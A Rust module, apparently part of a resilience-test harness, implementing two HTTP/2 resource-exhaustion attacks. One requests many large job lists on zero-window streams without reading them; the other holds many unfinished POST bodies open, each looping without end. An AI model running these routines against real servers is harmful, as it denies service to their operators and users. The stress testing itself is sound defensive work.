//! Abuse by HTTP/2.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use tokio::net::TcpStream;
use tokio::time::sleep;

/// Between two tries.
const PAUSE: Duration = Duration::from_millis(200);

type Sender = h2::client::SendRequest<Bytes>;
type Connection = h2::client::Connection<TcpStream, Bytes>;

/// Asks for lists of jobs on one connection whose streams have no window: nothing can be sent.
pub(super) async fn read_nothing(address: SocketAddr, streams: usize) {
    loop {
        if let Some((sender, connection)) = open(address, 0).await {
            tokio::select! {
                _ = connection => {}
                _ = ask_for_lists(sender, streams) => {}
            }
        }
        sleep(PAUSE).await;
    }
}

async fn ask_for_lists(mut sender: Sender, streams: usize) -> Result<(), h2::Error> {
    let mut responses = Vec::new();
    for _ in 0..streams {
        sender = sender.ready().await?;
        responses.push(sender.send_request(request("GET", "/jobs?limit=1000"), true)?.0);
    }
    for response in responses {
        // The head comes, and nothing of the body.
        let (_, mut body) = response.await?.into_parts();
        let _ = body.data().await;
    }
    Ok(())
}

/// Sends a batch but for its end on each of many streams.
pub(super) async fn hold_bodies_back(address: SocketAddr, streams: usize) {
    loop {
        if let Some((sender, connection)) = open(address, 1 << 20).await {
            tokio::select! {
                _ = connection => {}
                _ = begin_batches(sender, streams) => {}
            }
        }
        sleep(PAUSE).await;
    }
}

async fn begin_batches(mut sender: Sender, streams: usize) -> Result<(), h2::Error> {
    let mut bodies = Vec::new();
    for _ in 0..streams {
        sender = sender.ready().await?;
        let (response, body) = sender.send_request(request("POST", "/updates"), false)?;
        bodies.push((response, body));
    }
    for _ in 0..127 {
        for (_, body) in &mut bodies {
            // As much as the server lets in; more would wait here.
            body.reserve_capacity(64 << 10);
            let room = body.capacity().min(64 << 10);
            body.send_data(vec![b' '; room].into(), false)?;
        }
        sleep(Duration::from_millis(20)).await;
    }
    for (response, _) in bodies {
        response.await?;
    }
    Ok(())
}

/// A connection whose streams have so large a window for what the server sends.
async fn open(address: SocketAddr, window: u32) -> Option<(Sender, Connection)> {
    let stream = TcpStream::connect(address).await.ok()?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(window).handshake(stream).await.ok()
}

fn request(method: &str, path: &str) -> Request<()> {
    let request = Request::builder().method(method).uri(format!("http://x{path}")).body(());
    request.unwrap_or_else(|_| Request::new(()))
}
